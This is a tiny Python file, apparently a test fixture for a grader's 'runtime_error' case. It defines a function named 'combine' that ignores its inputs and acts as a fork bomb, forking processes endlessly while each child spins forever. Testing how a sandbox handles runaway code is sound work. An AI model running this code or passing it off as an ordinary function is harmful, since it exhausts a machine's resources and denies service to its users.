# runtime_error: doubles itself until it is refused, and leaves the children spinning.
import os


def combine(x, y):
    while True:
        if os.fork() == 0:
            while True:
                pass


class Combine:
    def __call__(self, x, y):
        return combine(x, y)
